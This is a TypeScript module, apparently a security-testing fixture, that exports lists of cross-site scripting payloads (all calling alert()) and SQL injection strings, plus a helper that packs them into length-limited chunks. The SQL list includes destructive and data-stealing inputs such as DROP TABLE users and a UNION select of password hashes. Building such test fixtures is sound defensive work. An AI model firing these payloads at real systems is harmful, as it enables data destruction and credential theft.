/**
 * Injection payloads: cross-site scripting in HTML, attribute, URL, markdown, SVG and template
 * contexts, and SQL injection. Each script payload calls alert(), so running one opens a dialog.
 */
export const xssPayloads = [
	'<script>alert(1)</script>',
	'<ScRiPt>alert(2)</sCrIpT>',
	'"><script>alert(3)</script>',
	"'><script>alert(4)</script>",
	'<img src=x onerror=alert(5)>',
	'<img src="x" onerror="alert(6)">',
	'<svg onload=alert(7)>',
	'<svg><script>alert(8)</script></svg>',
	'<body onload=alert(9)>',
	'<iframe src="javascript:alert(10)"></iframe>',
	'<a href="javascript:alert(11)">click</a>',
	'[click](javascript:alert(12))',
	'[click](JaVaScRiPt:alert(13))',
	'![x](x" onerror="alert(14))',
	'<details open ontoggle=alert(15)>',
	'<input autofocus onfocus=alert(16)>',
	'<math><mi xlink:href="javascript:alert(17)">x</mi></math>',
	'<object data="javascript:alert(18)">',
	'<embed src="javascript:alert(19)">',
	'<style>@import "javascript:alert(20)";</style>',
	'<div style="background:url(javascript:alert(21))">',
	'" onmouseover="alert(22)" x="',
	"' onmouseover='alert(23)' x='",
	'javascript:alert(24)',
	'&lt;script&gt;alert(25)&lt;/script&gt;',
	'<scr<script>ipt>alert(26)</scr</script>ipt>',
	'%3Cscript%3Ealert(27)%3C/script%3E',
	'\\u003cscript\\u003ealert(28)\\u003c/script\\u003e',
	'{{constructor.constructor("alert(29)")()}}',
	'${alert(30)}',
	'<template><script>alert(31)</script></template>',
	'<noscript><p title="</noscript><img src=x onerror=alert(32)>">',
	'<form action="javascript:alert(33)"><button>go</button></form>',
	'<meta http-equiv="refresh" content="0;url=javascript:alert(34)">',
	'<base href="javascript:alert(35)//">',
	'<link rel=import href="data:text/html,<script>alert(36)</script>">',
	'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgzNyk8L3NjcmlwdD4=">x</a>',
	'<video><source onerror="alert(38)"></video>',
	'<marquee onstart=alert(39)>',
	'</textarea><script>alert(40)</script>',
	'</title><script>alert(41)</script>'
];

export const sqlPayloads = [
	"' OR '1'='1",
	"' OR 1=1 --",
	'" OR ""="',
	"'; DROP TABLE users; --",
	"1; DELETE FROM entries WHERE '1'='1",
	"' UNION SELECT email, password_hash FROM users --",
	"admin'--",
	"' AND pg_sleep(5) --",
	"1' AND (SELECT COUNT(*) FROM users) > 0 --",
	"%' OR '%'='",
	"') OR ('a'='a",
	"\\'; SELECT pg_sleep(5); --"
];

export const payloads = [...xssPayloads, ...sqlPayloads];

/** The payloads joined into pieces of at most `max` characters (each piece whole payloads). */
export function chunks(max: number, separator = ' '): string[] {
	const pieces: string[] = [];
	let current = '';
	for (const payload of payloads) {
		const next = current ? `${current}${separator}${payload}` : payload;
		if ([...next].length > max) {
			if (current) pieces.push(current);
			current = payload;
		} else current = next;
	}
	if (current) pieces.push(current);
	return pieces;
}
